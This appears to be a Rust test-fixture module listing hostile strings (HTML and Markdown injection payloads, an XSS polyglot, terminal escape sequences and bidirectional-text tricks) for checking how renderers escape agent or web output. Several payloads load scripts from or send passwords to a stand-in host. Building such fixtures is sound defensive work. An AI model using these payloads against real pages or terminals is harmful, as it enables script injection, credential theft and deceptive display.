//! What a hostile agent, or a web page it read, would write. It knows no renderer.

/// What a string tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Trick {
    /// It would be markup in a page. To Markdown and to terminals it is nothing but text, so it shows everywhere.
    Markup,
    /// It means something to Markdown: prose shows it changed, everything else as it is.
    Markdown,
    /// It means something to a terminal, or hides what is read.
    Control,
    /// It is long: every place shows what fits.
    Long,
}

/// All of them.
pub(crate) fn all() -> Vec<(Trick, String)> {
    let short =
        |trick, list: &[&str]| list.iter().map(|text| (trick, (*text).to_owned())).collect::<Vec<_>>();
    let mut all = short(Trick::Markup, &MARKUP);
    all.extend(short(Trick::Markdown, &MARKDOWN));
    all.extend(short(Trick::Control, &CONTROL));
    let long = [
        "<",
        "&",
        "\"",
        "<b>",
        "</div>",
        "a ",
        "[",
        "> ",
        "![",
        "\u{1b}[31m",
        "\u{202e}",
        "é😀",
        "a\u{301}",
        "```\n",
        "|a",
    ];
    all.extend(long.map(|piece| (Trick::Long, piece.repeat(2_000 / piece.len()))));
    all
}

/// One string with a little of everything, for where every string would take too long.
pub(crate) const POLYGLOT: &str = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</style/</title/</textarea/--!>\
    <svg/onload='alert()'>\x1b]8;;javascript:x\x07\u{9b}2J\0\u{202e}](javascript:x)\n```\"><script>alert(1)</script>";

const MARKUP: [&str; 42] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif'>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><b onclick=alert(1)>x</b>",
    "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.test><input name=password></form>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<style>body{display:none}</style>",
    "</style><script>alert(1)</script>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "</title><script>alert(1)</script>",
    "</pre></code></details></article></main></body></html><h1>x",
    "</textarea></noscript></template><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<xmp><plaintext><listing>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<p title=\"<!--\" id=\"-->\">x",
    "<? php echo 1 ?>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "javascript:alert(1)",
    "vbscript:msgbox(1) data:text/html;base64,PHNjcmlwdD4=",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}>",
];

const MARKDOWN: [&str; 39] = [
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62; &#x3c;img&#x3E; &NotAnEntity; &amp;lt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.test/x)",
    "[x](https://a.test/\"onclick=\"alert(1))",
    "[x](https://a.test/ '\" onclick=\"alert(1)')",
    "[x](https://a.test/<script>)",
    "[x](https://a.test/%22%3E%3Cscript%3E)",
    "![x](https://evil.test/pixel.gif)",
    "![x](javascript:alert(1))",
    "![\"onerror=\"alert(1)](x)",
    "[![x](https://a.test/x.png)](javascript:alert(1))",
    "[a [b](https://b.test) c](https://c.test)",
    "![a ![b](https://b.test) c](https://c.test)",
    "[x][r]\n\n[r]: javascript:alert(1) '\"><script>'",
    "[x]\n\n[x]: https://a.test \"\\\"onclick=alert(1)\"",
    "<javascript:alert(1)>",
    "<https://a.test/\"onmouseover=alert(1)>",
    "https://a.test/'onclick='alert(1)'",
    "https://a.test/<script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onclick=alert(1) class=\"y\n<b>\n```",
    "~~~</code></pre><script>\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "| <script> | [x](javascript:x) |\n|---|:-:|\n| `<b>` | <img src=x onerror=y> |",
    "<div>\n*x* [y](javascript:z)\n\n<script>alert(1)</script>\n</div>",
    "- [ ] <script>\n- [x] [y](javascript:z)\n> # <b>\n> ![](x)",
    "\\<script> \\[x](javascript:y) \\`<b>\\`",
];

const CONTROL: [&str; 27] = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H\x1b[3Jgone",
    "\x1b[1A\x1b[2Kover",
    "\x1b[?1049h\x1b[?25l\x1b[?2004h",
    "\x1b]0;title\x07after",
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBoaQ==\x07clipboard",
    "\x1b]50;font\x07\x1b]4;1;?\x07",
    "\x1bP$q\"p\x1b\\report",
    "\x1bP1000p\x1b[c\x1b[6n\x1b[>c\x05",
    "\x1b_Gf=100;AAAA\x1b\\kitty",
    "\x1b^private\x1b\\ \x1bXstring\x1b\\",
    "\x1bc\x1b(0\x1b#8\x1b7\x1b8\x1bM",
    "\x1b[31<script>mx</script>",
    "\x1b[38;2;1;2;\x1b[<b>m",
    "\x1b",
    "\x1b[",
    "\x1b]8;;https://a.test\" onclick=\"x",
    "\u{9b}31m\u{9d}0;t\u{9c}\u{90}q\u{9c}\u{85}\u{80}",
    "a\0b\x01c\x07d\x08\x08e\x0bf\x0cg\x0eh\x7fi",
    "one\rtwo\x08three",
    "\u{202e}txt.exe\u{202c} \u{2066}x\u{2069} \u{202a}y\u{202b}z\u{202d}",
    "\u{61c}a\u{200e}b\u{200f}c\u{2067}d\u{2068}e",
    "/* \u{202e} } \u{2066}if (admin)\u{2069} \u{2066} begin */",
    "a\u{feff}b\u{200b}c\u{2028}d\u{2029}e\u{ad}f",
    "\u{fffe}\u{ffff}\u{fdd0}\u{10ffff}\u{e000}",
    "\x1b[1m<img src=x onerror=alert(1)>\x1b[0m\u{202e}\0",
];
